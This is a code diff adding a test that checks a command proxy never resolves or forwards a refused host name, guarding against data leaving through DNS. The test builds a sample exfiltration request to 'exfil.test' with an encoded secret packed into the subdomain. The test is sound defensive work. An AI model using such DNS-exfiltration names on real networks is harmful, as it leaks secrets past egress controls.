@@ -777,3 +777,42 @@ describe("command proxy: a server's odd answer never brings the proxy down", () 
       }
     });
 });
+
+describe("command proxy: nothing about a request leaves before it is allowed", () => {
+  test("a refused host name is never resolved: a name cannot carry data out through DNS", async () => {
+    const resolved: string[] = [];
+    const dir = tempDir("pencil-proxy-");
+    const proxy = await startCommandProxy({
+      socketPath: join(dir, "proxy.sock"),
+      reach: async () => false,
+      resolveHost: (h) => {
+        resolved.push(h);
+        return "127.0.0.1";
+      },
+    });
+    const socketPath = join(dir, "proxy.sock");
+    try {
+      const name = "c2vjcmv0lxrva2vu.exfil.test";
+      const out = await plainRequest(
+        socketPath,
+        `GET http://${name}/ HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`,
+      );
+      expect(out).toStartWith("HTTP/1.1 403");
+      let inside = "";
+      const t = tlsConnect({ socket: await tunnel(socketPath, `${name}:443`), servername: name, ca: proxy.caCertPem });
+      t.on("data", (d) => {
+        inside += d;
+      });
+      t.on("secureConnect", () => t.write("GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"));
+      await ended(t);
+      expect(inside).toStartWith("HTTP/1.1 403");
+      expect(proxy.log.map((r) => [r.host, r.allowed])).toEqual([
+        [name, false],
+        [name, false],
+      ]);
+      expect(resolved).toEqual([]);
+    } finally {
+      await proxy.close();
+    }
+  });
+});
